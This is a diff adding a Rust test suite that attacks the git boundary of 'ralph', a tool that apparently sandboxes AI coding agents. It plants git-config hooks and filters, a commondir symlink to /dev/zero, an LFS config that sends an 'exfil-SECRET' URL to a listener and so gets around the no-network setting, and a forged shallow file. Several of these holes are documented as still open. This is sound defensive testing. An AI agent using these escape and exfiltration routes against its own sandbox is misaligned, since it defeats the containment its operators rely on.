@@ -1,0 +1,416 @@
+//! A hostile review of the git boundary (issue 29, Done-when 2): a sandboxed agent that knows
+//! the design looks for a way from what it can write — its work tree, its own git directory, the
+//! names of files — to a program ralph runs outside the sandbox, to ralph's git opening a git
+//! directory it wrote, or to ralph's commits losing what they should hold. Each attack runs
+//! against a sandboxed worktree loop and a sandboxed main-tree loop; each has its control (the
+//! plain mechanism, run by the user's own git, does what the attack says). An attack that gets
+//! through is kept here `#[ignore]`d, naming the hole.
+
+use std::path::{Path, PathBuf};
+use std::process::Output;
+use std::time::Duration;
+
+use crate::common::*;
+
+/// The address space every ralph run (and the git it starts) gets, in KiB.
+const MEMORY_KIB: u64 = 1_500_000;
+
+/// The markers directory, outside the repository: a marker there was made by something that
+/// ran outside the sandbox.
+fn marks_dir(env: &TestEnv) -> PathBuf {
+    let m = env.dir().join("marks");
+    std::fs::create_dir_all(&m).unwrap();
+    m
+}
+
+fn marks(env: &TestEnv) -> Vec<String> {
+    let mut v: Vec<String> = std::fs::read_dir(marks_dir(env))
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    v.sort();
+    v
+}
+
+/// The two loops an attack is run against.
+#[derive(Clone, Copy, Debug)]
+enum Loop {
+    Worktree,
+    MainTree,
+}
+
+/// A sandboxed loop of `kind` on `A.md` (one box) whose agent runs `plant` (in the work tree,
+/// once), writes `work.txt` and checks the box; a worktree loop is merged. `vars` are added to
+/// ralph's environment.
+fn attacked(env: &TestEnv, kind: Loop, plant: &str, vars: &[(&str, &str)]) -> Output {
+    attacked_with(env, kind, plant, vars, &[])
+}
+
+/// [`attacked`], with `extra` arguments to `ralph run`.
+fn attacked_with(
+    env: &TestEnv,
+    kind: Loop,
+    plant: &str,
+    vars: &[(&str, &str)],
+    extra: &[&str],
+) -> Output {
+    env.write("A.md", &task(&["a1"]));
+    env.commit_all("task");
+    let script = env.dir().join("agent.sh");
+    std::fs::write(
+        &script,
+        format!(
+            "[ -e planted ] || {{ touch planted; ( {plant}\n) >/dev/null 2>&1; }}\n\
+             echo work > work.txt\nsed -i '0,/- \\[ \\]/s//- [x]/' \"$RALPH_TASK_FILE\"\n"
+        ),
+    )
+    .unwrap();
+    let agent = format!("sh '{}'", script.display());
+    let mut args = vec!["run"];
+    if let Loop::Worktree = kind {
+        args.extend(["--worktree", "w", "--merge"]);
+    }
+    args.extend(["A.md", "--agent-cmd", &agent, "--yes", "--grace", "1s"]);
+    args.extend(["--sandbox", "--max-iterations", "2"]);
+    args.extend(extra);
+    ralph_with_memory_limit(env, MEMORY_KIB, &args, vars, Duration::from_secs(90))
+}
+
+/// `sh -c script` in `dir`, isolated, under `ulimit -v` (the output whatever its status).
+fn plain_sh(env: &TestEnv, dir: &Path, script: &str) -> Output {
+    let mut cmd = env.command("sh");
+    cmd.arg("-c")
+        .arg(format!("ulimit -v {MEMORY_KIB}; {script}"))
+        .current_dir(dir);
+    run_with_limit(cmd, Duration::from_secs(60))
+}
+
+/// A nested repository `sub` with a commit, its own git directory configured by the agent to
+/// run a program (writing a marker) at every turn git could take: a file-system monitor, hooks
+/// (`post-index-change`, `reference-transaction`, `post-checkout`), a clean filter for every
+/// file, an ssh command, an external diff, a pager; registered in `.gitmodules` with `ignore =
+/// none` so that a status looks inside it; then a change in it.
+fn nested_repo_plant(env: &TestEnv) -> String {
+    let m = marks_dir(env).display().to_string();
+    format!(
+        "mkdir sub && cd sub && git init -q && echo x > f && git add -A && \
+         git -c user.name=a -c user.email=a@e commit -qm sub\n\
+         git config core.fsmonitor \"touch {m}/fsmonitor; echo\"\n\
+         git config filter.ev.clean \"touch {m}/clean; cat\"\n\
+         git config core.sshCommand \"touch {m}/ssh\"\n\
+         git config diff.external \"touch {m}/diff\"\n\
+         git config core.pager \"touch {m}/pager\"\n\
+         mkdir h && git config core.hooksPath \"$PWD/h\"\n\
+         for x in post-index-change reference-transaction post-checkout; do \
+         printf '#!/bin/sh\\ntouch {m}/hook-%s\\n' $x > h/$x; chmod +x h/$x; done\n\
+         echo '* filter=ev' > .gitattributes; echo y > f; cd ..\n\
+         printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = ./sub\\n\\tignore = none\\n' > .gitmodules\n"
+    )
+}
+
+/// ralph's git (outside) records the agent's nested repository as a gitlink and runs nothing
+/// its git directory names — nor at the merge nor the main tree's next status.
+#[test]
+fn a_nested_repositorys_configuration_never_runs_outside() {
+    for kind in [Loop::Worktree, Loop::MainTree] {
+        if !bwrap_works() {
+            return;
+        }
+        let env = TestEnv::outside_tmp();
+        let out = attacked(&env, kind, &nested_repo_plant(&env), &[]);
+        assert_exit(&out, 0);
+        assert_eq!(
+            marks(&env),
+            Vec::<String>::new(),
+            "{kind:?}: {}",
+            stderr(&out)
+        );
+        let tree = env.git(&["ls-tree", "main"]);
+        assert!(
+            tree.contains("160000 commit"),
+            "{kind:?}: sub not taken: {tree}"
+        );
+        assert_eq!(env.read("work.txt"), "work\n", "{kind:?}");
+    }
+}
+
+/// Control: the same nested repository, added as ralph adds it and then under a plain `git
+/// status` in the repository holding it, runs its monitor, its hook and its filter.
+#[test]
+fn control_a_plain_status_runs_a_nested_repositorys_configuration() {
+    let env = TestEnv::outside_tmp();
+    let plant = nested_repo_plant(&env);
+    let out = plain_sh(
+        &env,
+        &env.repo,
+        &format!("{plant}\ngit add -A && git status --short"),
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    let seen = marks(&env);
+    for m in ["clean", "fsmonitor", "hook-post-index-change"] {
+        assert!(seen.iter().any(|s| s == m), "{m}: {seen:?}");
+    }
+}
+
+/// A nested repository whose git directory's `commondir` leads to `/dev/zero`.
+const NESTED_COMMONDIR_ZERO: &str = "mkdir sub && cd sub && git init -q && echo x > f && \
+     git add -A && git -c user.name=a -c user.email=a@e commit -qm sub && \
+     ln -sf /dev/zero .git/commondir";
+
+/// The agent's nested repository is a git directory the agent wrote: ralph's git outside never
+/// opens it (issue 29, "never by ralph's git opening a git dir the agent could write"). A
+/// `commondir` there leading to `/dev/zero` leaves the run going, the work committed.
+///
+/// The hole: `git add -A` of the nested repository (`git/stage.rs`, `plan_nested_repo` then
+/// `add`) and the status of a gitlink resolve the nested repository's `HEAD` through its git
+/// directory, reading its `commondir`, its configuration (following `include.path` to any
+/// file), its refs: the `/dev/zero` above has ralph's git die "Out of memory" (after
+/// `RALPH_GIT_MEMORY`, 4 GiB by default) and the run stop, exit 1; libgit2 in ralph's own
+/// process (no memory limit) opens it too (`git2::Repository::open` in `plan_nested_repo`).
+#[test]
+#[ignore = "hole: ralph's git outside opens a nested repository's git directory the agent wrote (git add/status of a gitlink): commondir -> /dev/zero stops the run"]
+fn a_nested_repositorys_git_directory_is_never_opened_outside() {
+    for kind in [Loop::Worktree, Loop::MainTree] {
+        if !bwrap_works() {
+            return;
+        }
+        let env = TestEnv::outside_tmp();
+        let vars = [("RALPH_GIT_MEMORY", "64M")];
+        let out = attacked(&env, kind, NESTED_COMMONDIR_ZERO, &vars);
+        assert_exit(&out, 0);
+        assert!(
+            !stderr(&out).contains("Out of memory"),
+            "{kind:?}: {}",
+            stderr(&out)
+        );
+        assert_eq!(env.read("work.txt"), "work\n", "{kind:?}");
+    }
+}
+
+/// Control: a plain `git add -A` of such a nested repository dies of it.
+#[test]
+fn control_a_nested_commondir_to_dev_zero_kills_a_plain_git_add() {
+    let env = TestEnv::outside_tmp();
+    let out = plain_sh(
+        &env,
+        &env.repo,
+        &format!("{NESTED_COMMONDIR_ZERO}\ncd .. && git add -A"),
+    );
+    assert!(!out.status.success(), "git survived");
+    assert!(stderr(&out).contains("Out of memory"), "{}", stderr(&out));
+}
+
+/// A `commit-msg` hook that adds a trailer to the message file it is given, and refuses when
+/// there is none.
+fn commit_msg_hook(env: &TestEnv) {
+    let hook = env.repo.join(".git/hooks/commit-msg");
+    std::fs::write(
+        &hook,
+        "#!/bin/sh\n[ -f \"$1\" ] || { echo \"no message at $1\" >&2; exit 1; }\n\
+         echo 'Hooked: yes' >> \"$1\"\n",
+    )
+    .unwrap();
+    std::fs::set_permissions(&hook, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+}
+
+/// The `commit-msg` hook ralph runs for its commit in a main-tree loop edits the message —
+/// under `--sandbox` as without it (the control, the first case).
+///
+/// The hole (a regression of the boundary): `hooks::run` writes `COMMIT_EDITMSG` in the
+/// repository's real git directory and hands the hook that path, but inside the sandbox the
+/// path is the agent's own git directory, where no such file is: every commit is refused
+/// ("no message at …/.git/COMMIT_EDITMSG"), the work left staged, the run never completing.
+#[test]
+#[ignore = "hole: under --sandbox the commit-msg hook is handed .git/COMMIT_EDITMSG, which inside is the agent's git directory: no message, every commit refused"]
+fn the_commit_msg_hook_edits_the_message_in_the_sandbox_too() {
+    if !bwrap_works() {
+        return;
+    }
+    for sandboxed in [false, true] {
+        let env = TestEnv::outside_tmp();
+        env.write("A.md", &task(&["a1"]));
+        env.commit_all("task");
+        commit_msg_hook(&env);
+        let script = env.dir().join("agent.sh");
+        std::fs::write(
+            &script,
+            "echo work > work.txt\nsed -i '0,/- \\[ \\]/s//- [x]/' \"$RALPH_TASK_FILE\"\n",
+        )
+        .unwrap();
+        let agent = format!("sh '{}'", script.display());
+        let mut args = vec!["run", "A.md", "--agent-cmd", &agent, "--yes"];
+        args.extend(["--max-iterations", "1"]);
+        if sandboxed {
+            args.push("--sandbox");
+        }
+        let out = ralph_with_memory_limit(&env, MEMORY_KIB, &args, &[], Duration::from_secs(60));
+        assert_exit(&out, 0);
+        let msg = env.git(&["log", "-1", "--format=%B"]);
+        assert!(
+            msg.contains("Hooked: yes"),
+            "sandboxed {sandboxed}: {msg}\n{}",
+            stderr(&out)
+        );
+    }
+}
+
+/// A listener on a free local port that counts the connections made to it (each dropped at
+/// once): the address, and the count.
+fn listener() -> (String, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
+    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let addr = l.local_addr().unwrap().to_string();
+    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let count = seen.clone();
+    std::thread::spawn(move || {
+        for c in l.incoming() {
+            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+            drop(c);
+        }
+    });
+    (addr, seen)
+}
+
+/// Whether git-lfs is installed (says why the test skips otherwise).
+fn git_lfs_works() -> bool {
+    let ok = std::process::Command::new("git-lfs")
+        .arg("version")
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !ok {
+        skip_or_fail("git-lfs is not installed");
+    }
+    ok
+}
+
+/// The user's global configuration as `git lfs install` writes it.
+fn lfs_global(env: &TestEnv) -> PathBuf {
+    let p = env.dir().join("gitconfig");
+    std::fs::write(
+        &p,
+        "[filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n\tsmudge = git-lfs smudge -- %f\n\
+         \tprocess = git-lfs filter-process\n\trequired = true\n",
+    )
+    .unwrap();
+    p
+}
+
+/// The agent commits an LFS pointer, `.gitattributes` naming the user's `lfs` filter for it
+/// and a `.lfsconfig` whose `lfs.url` carries what it wants out (a listener's address stands
+/// for its server).
+fn lfs_plant(addr: &str) -> String {
+    format!(
+        "printf '[lfs]\\n\\turl = http://{addr}/exfil-SECRET\\n' > .lfsconfig\n\
+         echo 'big.bin filter=lfs -text' > .gitattributes\n\
+         printf 'version https://git-lfs.github.com/spec/v1\\noid sha256:%s\\nsize 12\\n' \
+         4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393 > big.bin\n\
+         git add -A && git -c user.name=a -c user.email=a@e commit -qm lfs\n"
+    )
+}
+
+/// An agent without network (`--sandbox-net none`) never has ralph's git reach the network for
+/// it: the user's `git lfs install` configuration (the `lfs` filter in `~/.gitconfig`) is
+/// there, the agent's commit names that filter and a `.lfsconfig` pointing at its server, and
+/// the loop is merged.
+///
+/// The hole: the merge (`git merge`, outside, in the user's main tree) checks out the
+/// agent's `.gitattributes` and runs the user's smudge filter, git-lfs, which reads the
+/// agent's `.lfsconfig` and POSTs to its `lfs.url` (`…/exfil-SECRET/objects/batch`): a
+/// program ralph runs outside, at the agent's say, reaching the network the sandbox took
+/// away. The merge then fails, the main tree left half-merged (files changed, untracked).
+/// `git worktree add` of the next loop smudges the same way.
+#[test]
+#[ignore = "hole: the agent's .gitattributes + .lfsconfig make the user's git-lfs smudge, run by ralph's merge outside, contact the agent's lfs.url (--sandbox-net none bypassed)"]
+fn an_agent_without_network_never_has_ralphs_git_reach_it() {
+    if !bwrap_works() || !git_lfs_works() {
+        return;
+    }
+    let env = TestEnv::outside_tmp();
+    let (addr, seen) = listener();
+    let global = lfs_global(&env);
+    let vars = [("GIT_CONFIG_GLOBAL", global.to_str().unwrap())];
+    let plant = format!("{}\nexit 0", lfs_plant(&addr));
+    let out = attacked_with(
+        &env,
+        Loop::Worktree,
+        &plant,
+        &vars,
+        &["--sandbox-net", "none"],
+    );
+    let n = seen.load(std::sync::atomic::Ordering::SeqCst);
+    assert_eq!(
+        n,
+        0,
+        "connections from outside the sandbox: {}",
+        stderr(&out)
+    );
+    assert_exit(&out, 0);
+}
+
+/// Control: the user's own `git checkout` of such a commit runs git-lfs, which contacts the
+/// `lfs.url` of the commit's `.lfsconfig`.
+#[test]
+fn control_a_plain_checkout_of_an_lfs_pointer_contacts_its_lfs_url() {
+    if !git_lfs_works() {
+        return;
+    }
+    let env = TestEnv::outside_tmp();
+    let (addr, seen) = listener();
+    let global = lfs_global(&env);
+    env.write("A.md", "a\n");
+    env.commit_all("one");
+    let mut cmd = env.command("sh");
+    cmd.env("GIT_CONFIG_GLOBAL", &global)
+        .arg("-c")
+        .arg(format!(
+            "git checkout -q -b side && {{ {} }} && git checkout -q main && \
+             rm -f big.bin && git checkout side",
+            lfs_plant(&addr)
+        ))
+        .current_dir(&env.repo);
+    let out = run_with_limit(cmd, Duration::from_secs(60));
+    assert!(
+        seen.load(std::sync::atomic::Ordering::SeqCst) > 0,
+        "{}",
+        stderr(&out)
+    );
+}
+
+/// The agent commits, then declares its git directory shallow at ralph's tip (its `shallow`
+/// file naming the commit its own descends from): what ralph fetches never makes the user's
+/// repository shallow, and the agent's commit is taken with all the history below it.
+const SHALLOW_PLANT: &str = "echo agent > agent.txt && git add -A && \
+     git -c user.name=a -c user.email=a@e commit -qm 'the agent: work' && \
+     git rev-parse HEAD~1 > \"$(git rev-parse --absolute-git-dir)/shallow\"";
+
+#[test]
+fn an_agents_shallow_file_never_makes_the_users_repository_shallow() {
+    for kind in [Loop::Worktree, Loop::MainTree] {
+        if !bwrap_works() {
+            return;
+        }
+        let env = TestEnv::outside_tmp();
+        env.write("one.txt", "1\n");
+        env.commit_all("one");
+        let out = attacked(&env, kind, SHALLOW_PLANT, &[]);
+        assert_exit(&out, 0);
+        assert!(!env.repo.join(".git/shallow").exists(), "{kind:?}");
+        let log = env.git(&["log", "--format=%s", "main"]);
+        assert!(log.contains("the agent: work"), "{kind:?}: {log}");
+        assert!(log.trim_end().ends_with("one"), "{kind:?}: {log}");
+    }
+}
+
+/// Control: a plain clone of a repository so planted is shallow.
+#[test]
+fn control_a_clone_of_a_planted_shallow_repository_is_shallow() {
+    let env = TestEnv::outside_tmp();
+    env.write("one.txt", "1\n");
+    env.commit_all("one");
+    let out = plain_sh(
+        &env,
+        &env.repo,
+        &format!("{SHALLOW_PLANT} && git clone -q \"file://$PWD\" ../clone"),
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(env.dir().join("clone/.git/shallow").exists());
+}
